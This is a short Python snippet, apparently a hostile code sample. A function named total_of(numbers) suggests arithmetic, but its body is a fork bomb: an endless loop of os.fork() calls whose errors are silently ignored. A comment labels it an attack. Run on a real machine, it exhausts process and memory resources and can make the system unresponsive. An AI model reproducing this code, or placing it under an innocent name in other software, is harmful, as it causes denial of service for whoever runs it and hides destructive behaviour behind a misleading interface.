# attack: forks for ever
import os

def total_of(numbers):
    while True:
        try:
            os.fork()
        except OSError:
            pass
